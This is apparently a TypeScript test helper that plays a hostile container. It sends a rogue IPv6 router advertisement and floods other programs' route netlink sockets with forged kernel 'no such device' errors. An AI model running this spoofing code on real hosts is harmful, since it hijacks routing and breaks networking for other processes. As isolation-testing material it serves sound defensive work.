/** What a hostile container sends: a router advertisement, and netlink messages to other programs of its namespace. */

import { dlopen } from 'node:ffi'
import { readFileSync } from 'node:fs'

const { functions: c } = dlopen('libc.so.6', {
  socket: { arguments: ['i32', 'i32', 'i32'], return: 'i32' },
  setsockopt: { arguments: ['i32', 'i32', 'i32', 'buffer', 'i32'], return: 'i32' },
  sendto: { arguments: ['i32', 'buffer', 'u64', 'i32', 'buffer', 'i32'], return: 'i64' },
  close: { arguments: ['i32'], return: 'i32' }
})

const AF_INET6 = 10
const AF_NETLINK = 16
const SOCK_RAW = 3
const IPPROTO_IPV6 = 41
const IPPROTO_ICMPV6 = 58
const IPV6_MULTICAST_IF = 17
const IPV6_MULTICAST_HOPS = 18
const MSG_DONTWAIT = 0x40

/** The network that the advertisement announces. */
export const ADVERTISED = '2001:db8:bad:1::'

/** RFC 4861, 4.2: a router for half an hour, and a prefix of 64 bits to make addresses of. */
function advertisement(): Buffer {
  const head = Buffer.alloc(16)
  head.writeUInt8(134, 0)
  head.writeUInt8(64, 4)
  head.writeUInt16BE(1800, 6)
  const prefix = Buffer.alloc(32)
  prefix.set([3, 4, 64, 0xc0])
  prefix.writeUInt32BE(3600, 4)
  prefix.writeUInt32BE(3600, 8)
  prefix.set([0x20, 0x01, 0x0d, 0xb8, 0x0b, 0xad, 0, 1], 16)
  return Buffer.concat([head, prefix])
}

/** Sends one to all nodes from the interface with this index, in the namespace that the thread is in. */
export function advertiseRouter(interfaceIndex: number): void {
  const fd = c.socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6)
  if (fd < 0) throw new Error('open a raw socket: refused')
  try {
    c.setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_IF, Int32Array.of(interfaceIndex), 4)
    c.setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, Int32Array.of(255), 4)
    const allNodes = Buffer.alloc(28)
    allNodes.writeUInt16LE(AF_INET6, 0)
    allNodes.set([0xff, 0x02], 8)
    allNodes.writeUInt8(1, 23)
    allNodes.writeUInt32LE(interfaceIndex, 24)
    const message = advertisement()
    c.sendto(fd, message, BigInt(message.length), 0, allNodes, allNodes.length)
  } finally {
    c.close(fd)
  }
}

const NLMSG_ERROR = 2
const ENODEV = 19
/** Programs number their requests from one: these answers come before the kernel's. */
const GUESSES = 24

/** An answer of the kernel's form that says `no such device` to the request of this number. */
function forgedError(sequence: number, port: number): Buffer {
  const message = Buffer.alloc(36)
  message.writeUInt32LE(message.length, 0)
  message.writeUInt16LE(NLMSG_ERROR, 4)
  message.writeUInt32LE(sequence, 8)
  message.writeUInt32LE(port, 12)
  message.writeInt32LE(-ENODEV, 16)
  return message
}

/** Ports of the route netlink sockets that are open in this namespace. */
function routePorts(): readonly number[] {
  const lines = readFileSync('/proc/thread-self/net/netlink', 'utf8').split('\n').slice(1)
  return lines.flatMap(line => {
    const [, protocol, port] = line.trim().split(/\s+/)
    return protocol === '0' && port !== undefined && port !== '0' ? [Number(port)] : []
  })
}

/** Answers every route netlink socket of this namespace in the kernel's place, until the process is ended. */
export function forgeNetlink(onReady: () => void): void {
  const fd = c.socket(AF_NETLINK, SOCK_RAW, 0)
  if (fd < 0) throw new Error('open a netlink socket: refused')
  onReady()
  for (;;) {
    for (const port of routePorts()) {
      const address = Buffer.alloc(12)
      address.writeUInt16LE(AF_NETLINK, 0)
      address.writeUInt32LE(port >>> 0, 4)
      for (let sequence = 1; sequence <= GUESSES; sequence += 1) {
        const message = forgedError(sequence, port)
        c.sendto(fd, message, BigInt(message.length), MSG_DONTWAIT, address, address.length)
      }
    }
  }
}
